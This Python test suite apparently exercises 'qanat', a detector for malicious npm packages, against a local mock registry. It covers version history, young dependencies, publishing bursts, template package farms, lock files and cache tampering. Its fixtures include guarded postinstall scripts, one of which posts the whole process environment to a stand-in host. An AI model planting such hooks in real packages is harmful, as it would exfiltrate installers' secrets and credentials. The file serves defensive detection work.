"""qanat check against a registry: a small one on this machine, in all the moods that registries have."""
import json
import os
import socket
import subprocess

from registry import Registry, env, sri
from tap import check, done, ok, package, put, scratch, tgz_of, verdicts


def names(reg, d):
    e = env(reg, d)
    for v in ("1.0.0", "1.2.0", "2.0.0"):
        reg.add("plain", v)
    reg.add("@scope/part", "0.1.0")
    r = check("plain", env=e)
    ok(r.code == 0 and r.json["results"][0]["version"] == "2.0.0", "a name is its latest version", r)
    r = check("plain@^1", "@scope/part", env=e)
    got = sorted((x["name"], x["version"], x["verdict"]) for x in r.json["results"])
    ok(got == [("@scope/part", "0.1.0", "clean"), ("plain", "1.2.0", "clean")], "a range, a scope", r)
    r = check("missing-package", env=e)
    reason = r.json["results"][0]["reason"]
    ok(r.code == 3 and "404" in reason and "missing-package" in reason, "a package that does not exist", r)
    r = check("plain@^9", env=e)
    ok(r.code == 3 and "9" in r.json["results"][0]["reason"], "a range that nothing matches", r)
    r = check("plain", "missing-package", env=e)
    ok(r.code == 3 and sorted(verdicts(r)) == ["clean", "unknown"], "one failure does not stop the rest", r)


def versions_before(reg, d):
    e = env(reg, d)
    guard = "if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);\n"
    call = guard + "require('https').get('https://x.example.invalid/', (r) => r.resume());\n"
    reg.add("taken", "1.0.9")
    reg.add("taken", "1.2.0")
    hook = {"package.json": package("taken", "1.2.1", scripts={"postinstall": "node t.js"}), "index.js": "", "t.js": call}
    reg.packages["taken"]["1.2.1"] = tgz_of(hook)
    reg.more["taken", "1.2.1"] = {"scripts": {"postinstall": "node t.js"}}
    reg.hits.clear()
    r = check("taken", env=e)
    rules = [f["rule"] for f in r.json["results"][0].get("findings", [])]
    ok(r.code == 1 and "update-first-hook-acts" in rules, "a name is compared with the version before", r)
    ok(any("taken-1.2.0.tgz" in h for h in reg.hits) and not any("taken-1.0.9.tgz" in h for h in reg.hits),
       "the version before is the highest lower one", reg.hits)
    r = check("taken", "--no-previous", env=e)
    ok(r.code == 0, "--no-previous looks at the version alone", r)
    r = check("taken@1.2.0", env=e)
    ok(r.code == 0, "an ordinary update", r)
    r = check("taken@1.0.9", env=e)
    ok(r.code == 0, "the first version has none before it", r)
    del reg.packages["taken"]["1.2.0"]
    r = check("taken@1.2.1", env=e)
    ok(r.code == 1, "a gap: the version before that is there", r)
    put(f"{d}/new.tgz", tgz_of(hook))
    put(f"{d}/old.tgz", reg.packages["taken"]["1.0.9"])
    r = check(f"{d}/new.tgz", "--previous", f"{d}/old.tgz", env=e)
    ok(r.code == 1, "--previous for a tarball", r)
    r = check(f"{d}/new.tgz", env=e)
    ok(r.code == 0, "without it nothing is new", r)
    r = check(f"{d}/new.tgz", "--previous", f"{d}/none.tgz", env=e)
    ok(r.code == 3 and "none.tgz" in r.json["results"][0]["reason"], "--previous that is not there", r)
    r = check("taken", "--previous", f"{d}/old.tgz", env=e)
    ok(r.code == 2, "--previous for a name is refused", r)


def dated(reg, name, times, people=("ada",), **more):
    """Gives a package a document with times and maintainers."""
    doc = {**reg.packument(name), "time": times, "maintainers": [{"name": p, "email": f"{p}@example.invalid"} for p in people], **more}
    reg.documents[name] = doc
    return doc


def new_dependencies(reg, d):
    """The documents of dependencies that the version before did not have are asked for as well."""
    e = env(reg, d)

    def release(*names, spec="^1"):
        for v, deps in (("1.0.0", {}), ("1.1.0", {n: spec for n in names})):
            files = {"package.json": package("mixer", v, dependencies=deps), "index.js": "module.exports = 1;\n"}
            reg.packages.setdefault("mixer", {})[v] = tgz_of(files)
            reg.more["mixer", v] = {"dependencies": deps}
        reg.fields["mixer"] = {}
        dated(reg, "mixer", {"created": "2020-01-01T00:00:00.000Z", "1.0.0": "2026-01-01T00:00:00.000Z",
                             "1.1.0": "2026-03-10T12:00:00.000Z"})
        reg.hits.clear()
        r = check("mixer", env=e)
        return r, [f["rule"] for f in r.json["results"][0].get("findings", [])]

    reg.add("tint", "1.0.0", scripts={"postinstall": "node index.js"})
    dated(reg, "tint", {"created": "2026-03-09T19:00:00.000Z", "1.0.0": "2026-03-09T19:00:00.000Z"}, ("eve",))
    r, rules = release("tint")
    ok(r.code == 1 and verdicts(r) == ["malicious"] and "update-young-dependency-runs" in rules,
       "a small release brings a package made hours before, with an install script", r)
    ok(b"17 hours" in r.out, "its age is told, by the dates of the two documents", r)
    r, rules = release("shade", spec="npm:tint@^1")
    ok("update-young-dependency-runs" in rules and "/tint" in reg.hits and "/shade" not in reg.hits, "under another name", r)
    dated(reg, "tint", {"created": "2019-03-09T19:00:00.000Z", "1.0.0": "2019-03-09T19:00:00.000Z"}, ("eve",))
    r, rules = release("tint")
    ok(verdicts(r) == ["clean"], "one that is old enough", r)
    r, rules = release("tint", spec="git+ssh://git@example.invalid/tint.git")
    ok("/tint" not in reg.hits, "what does not come from the registry has no document there", reg.hits)
    r, rules = release("no-such-package")
    ok(verdicts(r) == ["clean"] and "/no-such-package" in reg.hits, "one that the registry does not know", r)
    reg.documents["tint"] = {"name": "other", "versions": {}}
    r, rules = release("tint")
    ok(verdicts(r) == ["unknown"], "a document of another package is not looked over in silence", r)
    del reg.documents["tint"]
    r = check("mixer", "--no-previous", env=e)
    ok(r.code == 0, "--no-previous asks for none of that", r)
    many = [f"part-{i}" for i in range(65)]
    r, rules = release(*many)
    ok(len([h for h in reg.hits if h.startswith("/part-")]) == 64 and verdicts(r) == ["unknown"],
       "more new dependencies than are looked at", (len(reg.hits), r))


GUARD = "if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);\n"
SENDS = GUARD + "require('https').request('https://x.example.invalid/').end(JSON.stringify(process.env));\n"


def burst(reg, name, minute, hook="node setup.js", by="ada", setup=SENDS):
    """Two versions of a package; the second, of that minute, brings an install script."""
    for v, more in (("1.0.0", {}), ("1.1.0", {"scripts": {"postinstall": hook}} if hook else {})):
        files = {"package.json": package(name, v, **more), "index.js": "module.exports = 1;\n"}
        if hook and more:
            files["setup.js"] = setup
        reg.packages.setdefault(name, {})[v] = tgz_of(files)
        reg.more[name, v] = {**more, "_npmUser": {"name": by, "email": f"{by}@example.invalid"}}
    reg.fields[name] = {}
    dated(reg, name, {"created": "2020-01-01T00:00:00.000Z", "1.0.0": "2026-01-01T00:00:00.000Z",
                      "1.1.0": f"2026-03-10T12:{minute:02}:00.000Z"}, (by,))


def crowds(reg, d):
    """Packages of one run beside each other."""
    e = env(reg, d)

    def rules(r):
        return {x["name"]: [f["rule"] for f in x.get("findings", [])] for x in r.json["results"]}

    five = [f"wave-{i}" for i in range(5)]
    for i, name in enumerate(five):
        burst(reg, name, 2 * i)
    r = check(*five, env=e)
    ok(all("packages-burst-acts" in got for got in rules(r).values()) and b"5 packages in 9 minutes" in r.out,
       "five packages in ten minutes with the same new hook", r)
    again = check(*reversed(five), "--jobs", "1", env=e)
    ok({n: sorted(x) for n, x in rules(again).items()} == {n: sorted(x) for n, x in rules(r).items()}, "in whatever order", again)
    r = check(*five[:4], env=e)
    ok(not any("packages-burst-acts" in got for got in rules(r).values()), "four are no burst", r)
    burst(reg, "wave-4", 30)
    r = check(*five, env=e)
    ok(not any("packages-burst-acts" in got for got in rules(r).values()), "nor are five with half an hour between", r)
    burst(reg, "wave-4", 4, by="bob")
    r = check(*five, env=e)
    ok(not any("packages-burst-acts" in got for got in rules(r).values()), "nor five of two publishers", r)
    burst(reg, "wave-4", 4, hook="node setup.js --other", setup=SENDS + "// other\n")
    r = check(*five, env=e)
    ok(not any("packages-burst-acts" in got for got in rules(r).values()), "nor five with different hooks and files", r)
    many = [f"@mono/part-{i}" for i in range(20)]
    for name in many:
        burst(reg, name, 1, hook="", by="GitHub Actions")
    r = check(*many, env=e)
    ok(r.code == 0 and verdicts(r) == ["clean"] * 20, "a repository that releases twenty packages together is ordinary", r)

    put(f"{d}/wave/package.json", package("app"))
    lock = {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": {"name": "app", "version": "1.0.0"}, **{
        f"node_modules/{n}": {"version": "1.1.0", "resolved": f"{reg.url}{n}/-/{n}-1.1.0.tgz",
                              "integrity": sri(reg.packages[n]["1.1.0"])} for n in five}}}
    burst(reg, "wave-4", 4)
    lock["packages"]["node_modules/wave-4"]["integrity"] = sri(reg.packages["wave-4"]["1.1.0"])
    put(f"{d}/wave/package-lock.json", json.dumps(lock))
    reg.hits.clear()
    r = check(f"{d}/wave/package-lock.json", env=e)
    ok(not any("packages-burst-acts" in got for got in rules(r).values()) and "/wave-0" not in reg.hits,
       "a lock file asks for no documents", r)
    r = check(f"{d}/wave/package-lock.json", "--history", env=e)
    ok(all({"packages-burst-acts", "update-first-hook-acts"} <= set(got) for got in rules(r).values()), "with --history it does", r)
    del reg.packages["wave-0"]["1.1.0"], reg.documents["wave-0"]
    r = check(f"{d}/wave/package-lock.json", "--history", env=e)
    got = {x["name"]: x for x in r.json["results"]}
    ok(got["wave-0"]["verdict"] != "clean", "a version that the registry no longer lists", r)
    lock["packages"]["node_modules/wave-1"]["integrity"] = sri(b"something else")
    put(f"{d}/wave/package-lock.json", json.dumps(lock))
    r = check(f"{d}/wave/package-lock.json", "--history", env=e)
    got = {x["name"]: x for x in r.json["results"]}
    ok("integrity" in (got["wave-1"]["reason"] or ""), "the integrity of the lock file decides, not the document's", r)
    del reg.documents["wave-2"], reg.packages["wave-2"]
    plain = reg.add("still-there", "1.0.0")
    lock["packages"] = {"node_modules/still-there": {"version": "1.0.0", "resolved": f"{reg.url}still-there/-/still-there-1.0.0.tgz",
                                                     "integrity": sri(plain)}}
    put(f"{d}/wave/package-lock.json", json.dumps(lock))
    r = check(f"{d}/wave/package-lock.json", "--history", env=e)
    ok(r.code == 0, "an ordinary package with its history", r)
    reg.documents["still-there"] = {"name": "still-there"}
    r = check(f"{d}/wave/package-lock.json", "--history", env=e)
    ok(r.code == 3 and "history" in r.json["results"][0]["reason"], "a document that is none: the package alone is not clean", r)
    del reg.documents["still-there"]


def templates(reg, d):
    """Packages of no use whose README is the same but for names and numbers."""
    e = env(reg, d)

    def made(i, text, **more):
        path = f"{d}/farm/{i}.tgz"
        put(path, tgz_of({"package.json": package(f"elf-quiet-brook-{i}", **more), "README.md": text, "index.js": ""}))
        return path

    def farm(n):
        return [made(i, f"# elf-quiet-brook-{i}\n\nThis wonderful package is number {i} of a series that goes on and on.") for i in range(n)]

    r = check(*farm(40), env=e)
    found = [[f["rule"] for f in x["findings"]] for x in r.json["results"]]
    ok(r.code == 1 and all(f == ["package-farm-cluster"] for f in found) and b"40 packages" in r.out, "forty of one template", found[:3])
    r = check(*farm(39), env=e)
    ok(r.code == 0, "thirty-nine are a coincidence", r)
    one = farm(1)
    r = check(*one * 45, env=e)
    ok(r.code == 0, "forty-five times the same package is one", r)
    other = [made(i, f"# elf\n\nA text of its own, about the matter called {chr(97 + i % 26) * 3}{chr(97 + i // 26) * 3}, and no other.") for i in range(40)]
    r = check(*other, env=e)
    ok(r.code == 0, "forty texts that differ in a word", r)
    r = check(*one * 5001, env=e)
    ok(r.code == 3 and verdicts(r).count("unknown") == 1, "more packages than are compared with each other", verdicts(r).count("unknown"))


def moods(reg, d):
    e = env(reg, d)
    reg.mood = "broken"
    r = check("plain", env=e)
    ok(r.code == 3 and "500" in r.json["results"][0]["reason"], "a registry that answers 500", r)
    reg.mood, reg.fail_first = "well", 1
    r = check("plain", env=e)
    ok(r.code == 0, "a registry that fails once is asked again", r)
    reg.mood = "lying"
    r = check("plain", env=e)
    ok(r.code == 3 and "integrity" in r.json["results"][0]["reason"], "bytes that do not match their integrity", r)
    reg.mood = "well"
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    r = check("plain", env=env(f"http://127.0.0.1:{port}/", d))
    ok(r.code == 3 and len(r.json["results"][0]["reason"]) > 10, "a registry that is down", r)
    r = check("--offline", "never-fetched", env=e)
    ok(r.code == 3 and "offline" in r.json["results"][0]["reason"], "offline and not in the cache", r)


def lock_files(reg, d):
    e = env(reg, d)
    good = reg.add("dep-a", "1.0.0")
    other = reg.add("dep-b", "3.1.0")
    lock = {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": {
        "": {"name": "app", "version": "1.0.0", "dependencies": {"dep-a": "^1", "dep-b": "^3"}},
        "node_modules/dep-a": {"version": "1.0.0", "resolved": f"{reg.url}dep-a/-/dep-a-1.0.0.tgz", "integrity": sri(good)},
        "node_modules/dep-b": {"version": "3.1.0", "integrity": sri(other)},
        "node_modules/x/node_modules/dep-a": {"version": "1.0.0", "integrity": sri(good)},
        "node_modules/local": {"resolved": "local", "link": True}, "local": {"name": "local", "version": "1.0.0"},
    }}
    put(f"{d}/app/package-lock.json", json.dumps(lock))
    put(f"{d}/app/package.json", package("app"))
    r = check(f"{d}/app/package-lock.json", env=e)
    ok(r.code == 0 and [x["name"] for x in r.json["results"]] == ["dep-a", "dep-b"], "a lock file, with and without resolved", r)
    r = check(f"{d}/app", env=e)
    ok(r.code == 0 and sorted(x["name"] for x in r.json["results"]) == ["app", "dep-a", "dep-b"],
       "a project: its lock file and its own files", r)
    lock["packages"]["node_modules/dep-a"]["integrity"] = sri(b"something else")
    del lock["packages"]["node_modules/x/node_modules/dep-a"]
    lock["packages"]["node_modules/g"] = {"version": "1.0.0", "resolved": "git+ssh://git@example.invalid/g.git#abc"}
    put(f"{d}/app/package-lock.json", json.dumps(lock))
    r = check(f"{d}/app/package-lock.json", env=e)
    got = {x["name"]: (x["verdict"], x["reason"]) for x in r.json["results"]}
    ok(r.code == 3 and got["dep-a"][0] == "unknown" and "integrity" in got["dep-a"][1], "a lock file with a wrong integrity", r)
    ok(got["dep-b"][0] == "clean" and got["g"][0] == "unknown" and "git" in got["g"][1], "a git dependency is not clean", r)


def real_cache(reg, d):
    """The real npm fills its cache; qanat then needs no network."""
    e = env(reg, d)
    reg.add("for-others", "1.0.0", os=["no-such-system"])
    put(f"{d}/real/package.json", package("real", dependencies={"dep-a": "1.0.0", "plain": "^1"}))
    p = subprocess.run(["npm", "install", "--ignore-scripts", "--no-audit", "--no-fund"], cwd=f"{d}/real",
                       env={**os.environ, **e}, capture_output=True)
    ok(p.returncode == 0, "npm installs from this registry", p.stderr.decode())
    before = len(reg.hits)
    r = check("--offline", f"{d}/real", env=e)
    ok(r.code == 0 and sorted(verdicts(r)) == ["clean"] * 3, "what npm has cached is checked offline", r)
    ok(len(reg.hits) == before, "and nobody was asked", reg.hits[before:])
    put(f"{d}/other/package.json", package("other", optionalDependencies={"for-others": "1.0.0"}))
    subprocess.run(["npm", "install", "--ignore-scripts", "--no-audit", "--no-fund"], cwd=f"{d}/other",
                   env={**os.environ, **e}, capture_output=True)
    r = check("--offline", f"{d}/other/package-lock.json", env=e)
    ok(r.code == 3 and verdicts(r) == ["unknown"] and "optional" in r.json["results"][0]["reason"],
       "an optional package for other systems, which npm did not fetch: the reason says so", r)
    cached = [os.path.join(p, f) for p, _, fs in os.walk(f"{d}/cache/_cacache/content-v2") for f in fs]
    for path in cached:
        data = open(path, "rb").read()
        if data[:2] == b"\x1f\x8b":
            os.chmod(path, 0o644)
            put(path, data[:30] + bytes([data[30] ^ 0xFF]) + data[31:])
    r = check(f"{d}/real", env=e)
    ok(r.code == 0 and len(reg.hits) > before, "a damaged cache is noticed and fetched again", r)
    r = check("--offline", f"{d}/real", env=e)
    ok(r.code == 3 and "integrity" in json.dumps(r.json), "a damaged cache without network is not clean", r)


registry = Registry()
with scratch() as where:
    for part in (names, versions_before, new_dependencies, crowds, templates, moods, lock_files, real_cache):
        part(registry, where)
done()
